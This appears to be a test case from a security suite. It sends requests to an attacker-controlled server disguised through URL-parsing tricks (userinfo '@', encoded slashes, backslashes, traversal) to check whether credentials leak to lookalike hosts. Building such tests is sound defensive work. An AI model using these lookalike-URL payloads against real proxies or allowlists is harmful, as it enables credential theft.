import { attack } from "../attack.js";

export default attack({
  name: "sends requests to hosts that look like the API",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const api = new URL(it.apiUrl);
    // All of these reach the attacker's server, under both of its host names.
    for (const attacker of [it.attackerUrl, it.siblingUrl].map((url) => new URL(url))) {
      const at = `${attacker.host}${attacker.pathname}`;
      for (const url of [
        `http://${at}/v1/me`,
        `http://${at}/${api.href}me`,
        `http://${at}/?${api.href}me`,
        `http://${at}/#${api.href}me`,
        `http://${api.host}@${at}/v1/me`,
        `http://${api.hostname}:${api.port}%2f@${at}/v1/me`,
        `http://user:pass@${at}/v1/me`,
        `http://${at}/..;/v1/me`,
        `http:\\\\${at}\\v1\\me`,
        `http://${at}/v1/%2e%2e/v1/me`,
        `//${at}/v1/me`,
      ]) {
        for (const mode of ["cors", "no-cors"] as const) {
          await fetch(url, { mode }).catch(() => {});
          await fetch(url, { mode, headers: { authorization: "Bearer x" } }).catch(() => {});
        }
      }
    }
  },
});
